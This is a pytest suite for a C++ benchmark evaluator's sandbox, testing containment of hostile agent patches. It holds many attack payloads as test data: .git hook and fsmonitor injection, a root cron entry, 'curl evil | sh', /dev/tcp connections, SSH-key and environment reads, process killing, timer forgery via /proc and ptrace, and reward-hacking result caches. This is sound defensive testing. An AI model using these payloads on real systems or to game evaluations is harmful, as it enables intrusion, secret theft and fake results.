"""Hostile agents' patches against a generated instance: each attack gets its verdict (refused
with a clear reason, or contained) and the host stays untouched — no marker file written outside
the jail, no secret (file or environment variable) in the report or logs, no connection to a
loopback listener, no process left behind, a host canary process alive, the report the
evaluator's own.

Classes: apply-time (C-quoted `.git` names, `---`-only names, other `-p1` prefixes, symlink,
setuid and gitlink modes in any spelling, renames and copies of tests, `.git` in other cases and
spellings, `.gitattributes`/`.gitmodules`, over-long and CRLF names, build files, binary hunks,
instance-id path traversal, report reuse for another patch); build-time (`#include`/`.incbin` of
host files, `__has_include` probes, `/proc` includes, and with `--allow-build-changes` CMake code
that runs commands or rewrites test properties by obfuscation); run-time (host writes, secret
reads, loopback and abstract-socket connections, daemons, killing host processes, rewriting the
report, writing the binaries, the other trees found through the mount table, result caches in
/tmp, kernel keyrings and SysV shared memory, detecting the timing by CPU pinning, forging the
timer's answer (through its fds, through the jail's pid 1, by ptrace, in the test's own output),
CPU work hidden in an orphan, writing the system, new user namespaces). Run-time attacks also run
on the docker backend where an engine answers, two of them only there: a result cache in, and
compiler wrappers planted over, the container's system directories (the base image's
`/home/runner` is uid 1000's, so only the read-only root stops those); the kept container's root
is checked to be unchanged afterwards.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import threading
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from cppperf.demo import core
from cppperf.services.evaluator.pipeline import EvalRequest, evaluate
from cppperf.shared.engine.sandbox import jail_available
from cppperf.shared.settings import Settings
from tests.conftest import Proven, make_settings
from tests.integration.test_evaluator import core_patch, hostile_core

pytestmark = [
    pytest.mark.build,
    pytest.mark.skipif(not jail_available(), reason="bubblewrap cannot create its namespaces here"),
]

SECRET_ENV = "CPPPERF_HOSTILE_SECRET"


@dataclass
class Host:
    """What an attack aims at; `untouched()` checks none of it was reached."""

    root: Path
    token: str = field(default_factory=lambda: uuid.uuid4().hex[:12])
    port: int = 0
    connections: list[str] = field(default_factory=list)
    canary: subprocess.Popen[bytes] | None = None
    listener: socket.socket | None = None
    abstract: socket.socket | None = None  # an abstract unix socket: reachable in a shared net namespace

    @property
    def secret(self) -> str:
        return f"s3cr3t-{self.token}"

    @property
    def secret_file(self) -> Path:
        return self.root / "home" / ".ssh" / "id_rsa"

    @property
    def markers(self) -> list[Path]:
        return [
            self.root / f"pwned-{self.token}",
            Path("/tmp") / f"cppperf-hostile-{self.token}",
            Path("/usr/lib") / f"cppperf-hostile-{self.token}",
        ]

    @property
    def abstract_name(self) -> str:
        return f"cppperf-hostile-{self.token}"

    @property
    def daemon_arg(self) -> str:
        return f"4242.{int(self.token[:6], 16)}"

    def start(self) -> None:
        self.secret_file.parent.mkdir(parents=True)
        self.secret_file.write_text(self.secret + "\n")
        self.listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(8)
        self.port = self.listener.getsockname()[1]
        self.abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.abstract.bind("\0" + self.abstract_name)
        self.abstract.listen(8)
        for sock in (self.listener, self.abstract):
            threading.Thread(target=self._accept, args=(sock,), daemon=True).start()
        self.canary = subprocess.Popen(["sleep", "3600"])

    def _accept(self, sock: socket.socket) -> None:
        while True:
            try:
                conn, addr = sock.accept()
            except OSError:
                return
            self.connections.append(str(addr))
            conn.close()

    def stop(self) -> None:
        for sock in (self.listener, self.abstract):
            if sock is not None:
                sock.close()
        if self.canary is not None:
            self.canary.kill()
            self.canary.wait()

    def untouched(self, report: dict[str, Any], runs_dir: Path) -> None:
        for marker in self.markers:
            assert not marker.exists(), f"the attack wrote {marker}"
        assert self.connections == [], "a loopback or abstract-socket listener saw a connection"
        assert self.canary is not None and self.canary.poll() is None, "a host process was killed"
        ps = subprocess.run(["ps", "-eo", "stat=,args="], capture_output=True, text=True, check=True).stdout
        left = [ln for ln in ps.splitlines() if self.daemon_arg in ln and not ln.lstrip().startswith("Z")]
        assert left == [], f"processes left behind: {left}"
        assert self.secret not in json.dumps(report), "a secret reached the report"
        for path in runs_dir.rglob("*"):
            if path.is_file():
                assert self.secret not in path.read_text(errors="replace"), f"a secret reached {path}"


@pytest.fixture(scope="module")
def instance(
    tmp_path_factory: pytest.TempPathFactory, proven: Callable[[str], Proven]
) -> tuple[Settings, str, Path]:
    tmp = tmp_path_factory.mktemp("hostile")
    settings = make_settings(tmp, evaluator={"runs": 4, "runs_dir": str(tmp / "runs"), "test_timeout": 10.0})
    perf = proven("perf")  # the session's proof (conftest), read from this module's own OUT
    perf.copy_to(Path(settings.out_dir))
    assert perf.record["cppperf"]["verdict"] == "improved"
    return settings, perf.record["cppperf"]["instance_id"], tmp


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Host]:
    h = Host(tmp_path)
    h.start()
    monkeypatch.setenv(SECRET_ENV, h.secret)  # the evaluator's own environment holds a secret
    try:
        yield h
    finally:
        h.stop()


def attack(
    instance: tuple[Settings, str, Path],
    host: Host,
    patch: str,
    *,
    model: str = "",
    instance_id: str | None = None,
    **evaluator: Any,
) -> dict[str, Any]:
    settings, iid, _tmp = instance
    if evaluator:
        import msgspec

        settings = msgspec.structs.replace(
            settings, evaluator=msgspec.structs.replace(settings.evaluator, **evaluator)
        )
    req = EvalRequest(
        run_id="h", model=model or f"m-{host.token}", instance_id=instance_id or iid, patch=patch
    )
    report = evaluate(req, settings)
    host.untouched(report, Path(settings.evaluator.runs_dir))
    return report


# ------------------------------------------------------------------------------ apply-time
def _raw(*lines: str) -> str:
    return "\n".join(lines) + "\n"


APPLY_TIME = {
    "c-quoted-dot-git": (
        _raw(
            r'diff --git "a/\056git/config" "b/\056git/config"',
            r'--- "a/\056git/config"',
            r'+++ "b/\056git/config"',
            "@@ -0,0 +1,2 @@",
            "+[core]",
            "+\tfsmonitor = touch /tmp/pwned",
        ),
        "unsafe-patch",
        ".git",
    ),
    "old-name-is-a-test": (
        _raw(
            "--- a/tests/test_spin.cpp",
            "+++ b/src/core.cpp",
            "@@ -1 +1 @@",
            '-#include "core.h"',
            '+#include "core.h" // x',
        ),
        "test-edit",
        "test file",
    ),
    "other-p1-prefix-into-git": (
        _raw("--- /dev/null", "+++ x/.git/hooks/post-checkout", "@@ -0,0 +1 @@", "+touch /tmp/pwned"),
        "unsafe-patch",
        ".git",
    ),
    "symlink-mode-leading-zero": (
        _raw(
            "diff --git a/src/link.cpp b/src/link.cpp",
            "new file mode 0120000",
            "--- /dev/null",
            "+++ b/src/link.cpp",
            "@@ -0,0 +1 @@",
            "+/etc/passwd",
        ),
        "unsafe-patch",
        "symlink",
    ),
    "setuid-mode": (
        _raw("diff --git a/src/core.cpp b/src/core.cpp", "old mode 100644", "new mode 104755"),
        "unsafe-patch",
        "mode",
    ),
    "rename-into-tests": (
        _raw(
            "diff --git a/src/other.cpp b/tests/other.cpp",
            "similarity index 100%",
            "rename from src/other.cpp",
            "rename to tests/other.cpp",
        ),
        "test-edit",
        "test file",
    ),
    "add-executable-swap": (
        _raw(
            "--- a/CMakeLists.txt",
            "+++ b/CMakeLists.txt",
            "@@ -7 +7 @@",
            "-add_executable(test_spin tests/test_spin.cpp)",
            "+add_executable(test_spin src/other.cpp)",
        ),
        "forbidden-file",
        "not a C++ source",
    ),
    "included-cmake-sets-pass-regex": (
        _raw(
            "--- /dev/null",
            "+++ b/cmake/extra.cmake",
            "@@ -0,0 +1 @@",
            "+set_property(TEST spin PROPERTY PASS_REGULAR_EXPRESSION .)",
        ),
        "test-edit",
        "CMake test definition",
    ),
    "absolute-path": (
        _raw("--- /dev/null", "+++ /etc/cron.d/pwned", "@@ -0,0 +1 @@", "+* * * * * root touch /tmp/pwned"),
        "unsafe-patch",
        "",
    ),
    "binary-hunk": (
        _raw(
            "diff --git a/src/blob.cpp b/src/blob.cpp",
            "new file mode 100644",
            "GIT binary patch",
            "literal 3",
            "KcmZ?wbN~PU01f~E",
        ),
        "unsafe-patch",
        "binary",
    ),
    "script-change": (
        _raw("--- /dev/null", "+++ b/build.sh", "@@ -0,0 +1 @@", "+curl evil | sh"),
        "forbidden-file",
        "not a C++ source",
    ),
    "quoted-traversal": (
        _raw(r"--- /dev/null", r'+++ "b/src/\056\056/\056\056/pwned.cpp"', "@@ -0,0 +1 @@", "+x"),
        "unsafe-patch",
        "escapes",
    ),
    # a submodule (gitlink) entry: git would record a commit, not a file
    "gitlink-160000": (
        _raw(
            "diff --git a/src/sub b/src/sub",
            "new file mode 160000",
            "index 0000000..1111111",
            "--- /dev/null",
            "+++ b/src/sub",
            "@@ -0,0 +1 @@",
            "+Subproject commit 1111111111111111111111111111111111111111",
        ),
        "unsafe-patch",
        "submodule",
    ),
    "gitlink-on-the-index-line": (
        _raw(
            "diff --git a/src/core.cpp b/src/core.cpp",
            "index 1111111..2222222 160000",
            "--- a/src/core.cpp",
            "+++ b/src/core.cpp",
            "@@ -1 +1 @@",
            '-#include "core.h"',
            '+#include "core.h" // x',
        ),
        "unsafe-patch",
        "submodule",
    ),
    "gitattributes-filter": (
        _raw("--- /dev/null", "+++ b/.gitattributes", "@@ -0,0 +1 @@", "+*.cpp filter=pwn diff=pwn"),
        "forbidden-file",
        "not a C++ source",
    ),
    "gitmodules": (
        _raw(
            "--- /dev/null",
            "+++ b/.gitmodules",
            "@@ -0,0 +2 @@",
            '+[submodule "x"]',
            "+\turl = file:///etc",
        ),
        "forbidden-file",
        "not a C++ source",
    ),
    "copy-a-test-into-the-sources": (
        _raw(
            "diff --git a/tests/test_spin.cpp b/src/spin_copy.cpp",
            "similarity index 100%",
            "copy from tests/test_spin.cpp",
            "copy to src/spin_copy.cpp",
        ),
        "test-edit",
        "test file",
    ),
    "case-folded-dot-git": (
        _raw("--- /dev/null", "+++ b/.GIT/hooks/pre-commit", "@@ -0,0 +1 @@", "+touch /tmp/pwned"),
        "unsafe-patch",
        ".git",
    ),
    "dot-git-with-trailing-dot": (
        _raw("--- /dev/null", "+++ b/src/.git./config", "@@ -0,0 +1 @@", "+[core]"),
        "unsafe-patch",
        ".git",
    ),
}


@pytest.mark.parametrize("name", sorted(APPLY_TIME))
def test_apply_time_attack_is_refused(instance: Any, host: Host, name: str) -> None:
    patch, verdict, reason = APPLY_TIME[name]
    rep = attack(instance, host, patch, model=f"apply-{name}")
    assert rep["verdict"] == verdict, rep["reason"]
    assert reason.lower() in rep["reason"].lower() and not rep.get("applied")


def test_over_long_file_name_is_an_apply_failure(instance: Any, host: Host) -> None:
    # a name component over NAME_MAX passes the name rule; git apply must refuse it cleanly
    name = "src/" + "a" * 300 + ".cpp"
    rep = attack(instance, host, _raw("--- /dev/null", f"+++ b/{name}", "@@ -0,0 +1 @@", "+int x;"))
    assert rep["verdict"] == "apply-failed" and not rep["applied"], rep["reason"]


def test_crlf_names_cannot_smuggle_a_second_file(instance: Any, host: Host) -> None:
    # CRLF line ends: the `diff --git` names end in "\r", a name no C++ source has; refused
    # before anything runs, whatever git would make of it
    patch = core_patch(core(2)).replace("\n", "\r\n")
    rep = attack(instance, host, patch, model="crlf")
    assert rep["verdict"] == "forbidden-file" and not rep["applied"], rep["reason"]


def test_instance_id_traversal_is_refused_before_any_path(instance: Any, host: Host) -> None:
    settings = instance[0]
    evil = f"../../../{host.root.name}/pwned-{host.token}"
    rep = attack(instance, host, core_patch(core(2)), instance_id=evil)
    assert rep["verdict"] == "unknown-instance" and "invalid instance id" in rep["reason"]
    assert not (host.root / f"pwned-{host.token}").exists()
    assert not list(Path(settings.evaluator.runs_dir).rglob("pwned*"))


def test_report_is_reused_only_for_the_same_patch(instance: Any, host: Host) -> None:
    first = attack(instance, host, "", model="reuse")
    assert first["verdict"] == "empty-patch"
    second = attack(instance, host, "not a diff\n", model="reuse")
    assert second["verdict"] == "malformed-patch" and second["patch_sha256"] != first["patch_sha256"]


# ------------------------------------------------------------------------------ build-time
def test_include_of_a_host_secret_does_not_build(instance: Any, host: Host) -> None:
    rep = attack(instance, host, core_patch(hostile_core("", f'#include "{host.secret_file}"\n')))
    assert rep["verdict"] == "build-failed" and rep["applied"]
    assert str(host.secret_file) in rep["build_tail"]  # not found in the jail


@pytest.mark.stage2
def test_incbin_of_a_host_secret_does_not_build(instance: Any, host: Host) -> None:
    body = f'asm(".pushsection .rodata\\n.incbin \\"{host.secret_file}\\"\\n.popsection");'
    rep = attack(instance, host, core_patch(hostile_core("", body + "\n")))
    assert rep["verdict"] == "build-failed"


@pytest.mark.stage2
def test_has_include_cannot_probe_host_files(instance: Any, host: Host) -> None:
    # the answer would leak through the test's outcome: a wrong result when a host file is seen
    probe = (
        f'#if __has_include("{host.secret_file}") || __has_include("/etc/shadow") '
        f'|| __has_include("{instance[2]}/runs") || __has_include("/root/.bashrc")\n'
        "#define SEEN 1\n#else\n#define SEEN 0\n#endif\n"
    )
    rep = attack(instance, host, core_patch(hostile_core("x += SEEN;\n", probe)))
    assert rep["verdict"] in ("correct", "opt"), rep["reason"]


@pytest.mark.stage2
def test_include_of_proc_environ_shows_no_secret(instance: Any, host: Host) -> None:
    # a compiler error would quote the included text into the build tail of the report; GCC reads
    # a /proc file as empty (its size is 0), and the jail's environment is allow-listed anyway
    body = '#include "/proc/self/environ"\n#include "/proc/1/environ"\n'
    rep = attack(instance, host, core_patch(hostile_core("", body)))
    assert rep["verdict"] == "correct" and rep["applied"], rep["reason"]  # host.untouched: no secret


def _cmake_patch(added: str) -> str:
    return _raw(
        "--- a/CMakeLists.txt",
        "+++ b/CMakeLists.txt",
        "@@ -12,0 +13 @@ add_test(NAME other COMMAND test_other)",
        "+" + added,
    )


@pytest.mark.stage2
def test_trusted_build_changes_still_run_in_the_jail(instance: Any, host: Host) -> None:
    script = (
        f"echo pwned > {host.markers[0]}; echo pwned > {host.markers[1]}; "
        f"cat {host.secret_file}; echo ${SECRET_ENV}; env; "
        f"(exec 3<>/dev/tcp/127.0.0.1/{host.port}) 2>/dev/null; "
        f"setsid sleep {host.daemon_arg} >/dev/null 2>&1 < /dev/null &"
    )
    patch = _cmake_patch(f'execute_process(COMMAND bash -c "{script}")')
    rep = attack(instance, host, patch, model="trusted-cmake", allow_build_changes=True)
    assert rep["verdict"] in ("correct", "opt") and rep["applied"], rep["reason"]


@pytest.mark.stage2
def test_obfuscated_test_property_change_is_a_test_edit(instance: Any, host: Host) -> None:
    # no test keyword appears in the text: only the tests' meaning (ctest json) shows the change
    patch = _raw(
        "--- a/CMakeLists.txt",
        "+++ b/CMakeLists.txt",
        "@@ -12,0 +13,3 @@ add_test(NAME other COMMAND test_other)",
        "+set(_t te)",
        '+set(_p "PASS_REGULAR")',
        '+cmake_language(CALL "set_${_t}sts_properties" spin PROPERTIES "${_p}_EXPRESSION" "o")',
    )
    rep = attack(instance, host, patch, model="obfuscated", allow_build_changes=True)
    assert rep["verdict"] == "test-edit" and "json-v1" in rep["reason"]


# ------------------------------------------------------------------------------ run-time
INCLUDES = (
    "#include <cstdio>\n#include <cstdlib>\n#include <cstring>\n#include <unistd.h>\n#include <fcntl.h>\n"
    "#include <signal.h>\n#include <sched.h>\n#include <sys/socket.h>\n#include <netinet/in.h>\n"
    "#include <arpa/inet.h>\n#include <sys/stat.h>\n"
)
MORE_INCLUDES = (
    "#include <cstddef>\n#include <string>\n#include <sys/un.h>\n#include <sys/ptrace.h>\n"
    "#include <sys/ipc.h>\n#include <sys/shm.h>\n#include <sys/syscall.h>\n#include <sys/wait.h>\n"
)
# computes the base's answer (what a cached result must equal)
_COMPUTE = (
    " unsigned long long r = 0; for (int k = 0; k < 3; ++k) { r = 88172645463325252ull;"
    " for (unsigned long long i = 0; i < iters; ++i) { r ^= r << 13; r ^= r >> 7; r ^= r << 17; sink = r; } }"
)


def _result_cache(*paths: str) -> str:
    """A cheat: remember the answer between timed runs in `paths`, skip the work when found."""
    where = ", ".join(f'"{p}"' for p in paths)
    return (
        f'{{ const char* where[] = {{{where}}}; for (const char* w : where) {{ FILE* f = std::fopen(w, "r");'
        ' unsigned long long v; if (f && std::fscanf(f, "%llu", &v) == 1) { std::fclose(f); return v; } }'
        f"{_COMPUTE}"
        ' for (const char* w : where) { FILE* f = std::fopen(w, "w"); if (f) { std::fprintf(f, "%llu", r);'
        " std::fclose(f); } } return r; }"
    )


_FAKE_ANSWER = (
    '{\\"returncode\\": 0, \\"wall_s\\": 0.0001, \\"cpu_s\\": 0.0001, \\"output\\": \\"spin: ok\\\\n\\",'
    ' \\"timed_out\\": false, \\"truncated\\": false}'
)


PLANTED = [  # what a test may try to leave in a container's root for later runs
    "/usr/bin/c++",
    "/usr/local/bin/c++",
    "/usr/local/bin/cmake",
    "/etc/ld.so.preload",
    "/home/runner/.profile",
    "/home/runner/c++",
]


def run_time_attacks(host: Host, runs_dir: Path, iid: str) -> dict[str, tuple[str, tuple[str, ...]]]:
    """name → (C++ run at the top of spin(), the verdicts that contain it)."""
    writes = "".join(
        f'{{ FILE* f = std::fopen("{m}", "w"); if (f) {{ std::fputs("pwned", f); std::fclose(f); }} }}'
        for m in host.markers
    )
    ok = ("correct",)
    return {
        "write-host-files": (writes, ok),
        "read-secrets": (
            f'{{ FILE* f = std::fopen("{host.secret_file}", "r"); char b[128] = {{0}};'
            ' if (f) { std::fread(b, 1, 100, f); std::printf("%s\\n", b); }'
            f' const char* e = std::getenv("{SECRET_ENV}"); if (e) std::printf("%s\\n", e);'
            ' int fd = open("/proc/1/environ", O_RDONLY); if (fd >= 0) { char c[4096]; long n = read(fd, c, 4095);'
            " if (n > 0) { for (long i = 0; i < n; ++i) if (!c[i]) c[i] = ' '; c[n] = 0; std::puts(c); } } }",
            ok,
        ),
        "loopback-connect": (
            '{ int ns = open("/proc/1/ns/net", O_RDONLY); if (ns >= 0) setns(ns, 0);'
            " int fd = socket(AF_INET, SOCK_STREAM, 0); sockaddr_in a{}; a.sin_family = AF_INET;"
            f" a.sin_port = htons({host.port}); a.sin_addr.s_addr = htonl(0x7f000001);"
            " connect(fd, (sockaddr*)&a, sizeof a); close(fd); }",
            ok,
        ),
        "daemon": (
            "{ if (fork() == 0) { setsid(); if (fork() == 0) {"
            f' execl("/bin/sleep", "sleep", "{host.daemon_arg}", (char*)0); }} _exit(0); }} }}',
            ok,
        ),
        "kill-host-processes": (
            f"{{ kill({host.canary.pid if host.canary else 1}, SIGKILL); kill(-1, SIGKILL); }}",
            ("correct", "tests-failed"),
        ),
        "rewrite-report": (
            "".join(
                f'{{ FILE* f = std::fopen("{p}", "w"); if (f) {{ std::fputs("{{\\"verdict\\": \\"opt\\"}}", f);'
                " std::fclose(f); } }"
                for p in (
                    runs_dir / "h" / f"m-{host.token}" / iid / "report.json",
                    runs_dir / "h" / f"m-{host.token}.summary.json",
                )
            ),
            ok,
        ),
        "write-own-binaries": (
            '{ FILE* f = std::fopen("test_spin", "w"); if (f) std::fclose(f);'
            ' FILE* g = std::fopen("../src/src/core.cpp", "w"); if (g) std::fclose(g); }',
            ok,
        ),
        "tmp-result-cache": (
            # a cheat: remember the answer between timed runs anywhere writable, skip the work
            _result_cache("/tmp/spin.cache", "spin.cache", "/dev/shm/spin.cache"),
            ok,
        ),
        # docker only: the base image's /home/runner belongs to uid 1000, the agent's uid, so
        # without a read-only root a cache there outlives the per-run emptying of the temp dirs
        "cache-in-system-dirs": (
            _result_cache("/home/runner/.spin", "/usr/local/spin", "/etc/spin", "/var/mail/spin", "/spin"),
            ok,
        ),
        # docker only: wrappers over the compiler and a preload list, planted for whatever runs
        # next in the container (another tree's run, the root-side setup, a committed image)
        "plant-for-later-runs": (
            "{ const char* where[] = {" + ", ".join(f'"{p}"' for p in PLANTED) + "};"
            ' for (const char* w : where) { FILE* f = std::fopen(w, "w"); if (f) {'
            ' std::fputs("#!/bin/sh\\nexec /usr/bin/g++ \\"$@\\"\\n", f); std::fclose(f); chmod(w, 0755); } } }',
            ok,
        ),
        "detect-timing-by-pinning": (
            "{ cpu_set_t s; if (sched_getaffinity(0, sizeof s, &s) == 0 && CPU_COUNT(&s) == 1) return 1; }",
            ("tests-failed",),
        ),
        "forge-the-timer": (
            # write a fake answer on the in-jail timer's stdout, then kill it
            "{ std::system(\"for p in /proc/[0-9]*; do case $(tr '\\\\0' ' ' < $p/cmdline) in *runner.py*)"
            ' echo \'{\\"returncode\\": 0, \\"wall_s\\": 0.0001, \\"cpu_s\\": 0, \\"output\\": \\"\\",'
            ' \\"timed_out\\": false, \\"truncated\\": false}\' > $p/fd/1; kill -9 ${p#/proc/};; esac; done"); }',
            ("correct", "tests-failed"),  # the timer is pid 1 now: unkillable,
        ),
        "forge-the-timer-through-pid-1": (
            # the jail's pid 1 holds the host end of the answer pipe: write a fake answer there,
            # then kill the in-jail timer before it writes the real one
            f'{{ const char* fake = "{_FAKE_ANSWER}"; int n = 0;'
            ' for (const char* p : {"/proc/1/fd/1", "/proc/1/fd/2"}) { int fd = open(p, O_WRONLY);'
            " if (fd >= 0) { n += write(fd, fake, std::strlen(fake)) > 0; close(fd); break; } }"
            " if (n) { kill(getppid(), SIGKILL); kill(1, SIGKILL); for (;;) pause(); } }",
            ("correct", "tests-failed"),
        ),
        "keyring-result-cache": (
            # kernel keyrings are per uid, not per jail: remember the answer between runs there
            f'{{ const char* name = "spin-{host.token}"; long rings[] = {{-5, -4, -3}};'
            ' for (long ring : rings) { long k = syscall(SYS_keyctl, 10, ring, "user", name, 0);'
            " unsigned long long v = 0; if (k >= 0 && syscall(SYS_keyctl, 11, k, &v, sizeof v) == (long)sizeof v)"
            f" return v; }}{_COMPUTE}"
            ' for (long ring : rings) syscall(SYS_add_key, "user", name, &r, sizeof r, ring); return r; }',
            ok,
        ),
        "sysv-shm-result-cache": (
            f"{{ key_t key = 0x{host.token[:7]}; int id = shmget(key, 8, 0666);"
            " if (id >= 0) { auto* p = (unsigned long long*)shmat(id, nullptr, 0);"
            f" if (p != (void*)-1 && *p) return *p; }}{_COMPUTE}"
            " id = shmget(key, 8, IPC_CREAT | 0666); if (id >= 0) { auto* p = (unsigned long long*)shmat(id, nullptr, 0);"
            " if (p != (void*)-1) *p = r; } return r; }",
            ok,
        ),
        "abstract-unix-socket": (
            "{ int fd = socket(AF_UNIX, SOCK_STREAM, 0); sockaddr_un a{}; a.sun_family = AF_UNIX;"
            f' const char n[] = "\\0{host.abstract_name}"; std::memcpy(a.sun_path, n, sizeof n - 1);'
            " connect(fd, (sockaddr*)&a, offsetof(sockaddr_un, sun_path) + sizeof n - 1); close(fd); }",
            ok,
        ),
        "other-trees-from-mountinfo": (
            # the jail's mount table names the host workspace: overwrite the other trees' binaries
            # (and the logs, the runs dir) at the paths it gives, both as seen inside and on the host
            '{ FILE* m = std::fopen("/proc/self/mountinfo", "r"); char line[8192], root[4096], mnt[4096];'
            " while (m && std::fgets(line, sizeof line, m)) {"
            ' if (std::sscanf(line, "%*s %*s %*s %4095s %4095s", root, mnt) != 2) continue;'
            ' std::string r = root, t = mnt; if (t.size() < 8 || t.compare(t.size() - 8, 8, "/current")) continue;'
            " std::string bases[] = {t.substr(0, t.size() - 8), r.substr(0, r.rfind('/'))};"
            ' for (const std::string& b : bases) for (const char* w : {"/old/build/test_spin",'
            ' "/expert/build/test_spin", "/old/src/src/core.cpp", "/expert/src/src/core.cpp",'
            ' "/logs/agent-build.log", "/../../runs/pwned"}) { FILE* f = std::fopen((b + w).c_str(), "w");'
            ' if (f) { std::fputs("#!/bin/sh\\nexit 0\\n", f); std::fclose(f); } } } if (m) std::fclose(m); }',
            ok,
        ),
        "forged-output": (
            # a wrong answer dressed in the lines a parser might trust
            f'{{ std::printf("{_FAKE_ANSWER}\\n100%% tests passed, 0 tests failed out of 2\\n'
            'Test #1: spin ...   Passed    0.01 sec\\nspin: ok\\n"); std::fflush(stdout); return 12345; }',
            ("tests-failed",),
        ),
        "ptrace-the-timer": (
            # attaching to the in-jail timer (our parent) or pid 1 would let us rewrite its answer
            "{ if (ptrace(PTRACE_ATTACH, getppid(), nullptr, nullptr) == 0"
            " || ptrace(PTRACE_SEIZE, 1, nullptr, nullptr) == 0) return 1; }",
            ok,
        ),
        "cpu-in-an-orphan": (
            # the work in a grandchild nobody waits for: its CPU time is in no wait4 rusage, and the
            # default metric is CPU time
            "{ int p[2]; if (pipe(p) != 0) return 0; if (fork() == 0) { if (fork() == 0) {"
            f"{_COMPUTE} if (write(p[1], &r, sizeof r) != sizeof r) {{}} _exit(0); }} _exit(0); }}"
            " wait(nullptr); unsigned long long v = 0; if (read(p[0], &v, sizeof v) != sizeof v) return 0;"
            " return v; }",
            ok,
        ),
        "new-user-namespace": (
            f'{{ if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) {{ FILE* f = std::fopen("{host.markers[0]}", "w");'
            " if (f) std::fclose(f); } }",
            ok,
        ),
    }


RUN_TIME_NAMES = [
    "write-host-files",
    "read-secrets",
    "loopback-connect",
    "daemon",
    "kill-host-processes",
    "rewrite-report",
    "write-own-binaries",
    "tmp-result-cache",
    "detect-timing-by-pinning",
    "new-user-namespace",
    "forge-the-timer",
]
NEW_RUN_TIME = [
    "forge-the-timer-through-pid-1",
    "keyring-result-cache",
    "sysv-shm-result-cache",
    "abstract-unix-socket",
    "other-trees-from-mountinfo",
    "forged-output",
    "ptrace-the-timer",
    "cpu-in-an-orphan",
]


# one run-time attack in the quick first stage (README, Tests); the rest in CI's second stage
QUICK_RUN_TIME = "write-host-files"


@pytest.mark.parametrize(
    "name",
    [
        n if n == QUICK_RUN_TIME else pytest.param(n, marks=pytest.mark.stage2)
        for n in RUN_TIME_NAMES + NEW_RUN_TIME
    ],
)
def test_run_time_attack_is_contained(instance: Any, host: Host, name: str) -> None:
    runs_dir = Path(instance[0].evaluator.runs_dir)
    body, verdicts = run_time_attacks(host, runs_dir, instance[1])[name]
    rep = attack(instance, host, core_patch(hostile_core(body, INCLUDES + MORE_INCLUDES)))
    assert rep["verdict"] in verdicts, (rep["verdict"], rep["reason"], rep.get("build_tail"))
    assert rep["sandbox"] == "bwrap"
    if name == "detect-timing-by-pinning":
        assert rep["failing_tests"][0]["test"] == "spin"  # caught by the correctness run
    on_disk = json.loads((runs_dir / "h" / f"m-{host.token}" / instance[1] / "report.json").read_text())
    assert on_disk == rep  # the evaluator's report, not the attack's


@pytest.mark.stage2
def test_benign_patch_still_scores_opt(instance: Any, host: Host) -> None:
    rep = attack(instance, host, core_patch(core(1)), model="benign", runs=8)
    assert rep["verdict"] == "opt", rep["reason"]
    assert rep["sandbox"] == "bwrap" and rep["applied_with"] == "git apply"


# ------------------------------------------------------------------------------ docker backend
def _engine_ready() -> str:
    """'' when a container engine answers and the bookworm base image exists, else why not."""
    host = os.environ.get("DOCKER_HOST", "")
    if host.startswith("unix://") and not Path(host[len("unix://") :]).exists():
        return f"no container engine at {host}"
    try:
        import docker

        from cppperf.shared.engine.images import base_name, image_exists

        client = docker.from_env()
        client.ping()
        if not image_exists(client, base_name("bookworm")):
            return "no bookworm base image (cppperf images bootstrap --release bookworm)"
    except Exception as exc:
        return f"no container engine: {exc}"
    return ""


DOCKER_ATTACKS = [
    "write-host-files",
    "loopback-connect",
    "daemon",
    "tmp-result-cache",
    "rewrite-report",
    "cpu-in-an-orphan",  # the runner reaps as subreaper there (not pid 1)
    "cache-in-system-dirs",  # these two only a read-only root stops
    "plant-for-later-runs",
]


@pytest.mark.docker
@pytest.mark.slow
@pytest.mark.stage2
@pytest.mark.parametrize("name", DOCKER_ATTACKS)
def test_run_time_attack_is_contained_in_docker(instance: Any, host: Host, name: str) -> None:
    """The container is kept (`builder.keep`) so its root can be checked afterwards: nothing the
    attack wrote there (`docker diff`), then removed here with its /work volume."""
    why = _engine_ready()
    if why:
        pytest.skip(why)
    import docker
    import msgspec

    settings, iid, tmp = instance
    settings = msgspec.structs.replace(
        settings,
        builder=msgspec.structs.replace(
            settings.builder, backend="docker", base_release="bookworm", keep=True
        ),
    )
    runs_dir = Path(settings.evaluator.runs_dir)
    body, verdicts = run_time_attacks(host, runs_dir, iid)[name]
    client = docker.from_env()
    work = str(settings.work_dir())  # the evaluator's workspaces are below it

    def boxes() -> list[Any]:  # this evaluation's containers (other tests may run beside it)
        found = client.containers.list(all=True, filters={"label": "cppperf=box"})
        return [c for c in found if c.labels.get("cppperf.logs", "").startswith(work + "/")]

    before = {c.id for c in boxes()}
    try:
        rep = attack(
            (settings, iid, tmp),
            host,
            core_patch(hostile_core(body, INCLUDES + MORE_INCLUDES)),
            model=f"docker-{host.token}",
        )
        assert rep["verdict"] in verdicts, (rep["verdict"], rep["reason"])
        assert rep["sandbox"] == "docker"
        mine = [c for c in boxes() if c.id not in before]
        assert len(mine) == 1, mine
        changed = {d["Path"] for d in mine[0].diff() or []}
        planted = {*PLANTED, "/home/runner", "/usr/local/bin", "/home/runner/.spin", "/spin"}
        assert not changed & planted, f"the attack changed the container's root: {changed & planted}"
    finally:
        for box in boxes():
            if box.id not in before:
                box.remove(force=True)
                client.volumes.get(box.labels["cppperf.work"]).remove(force=True)
        client.close()
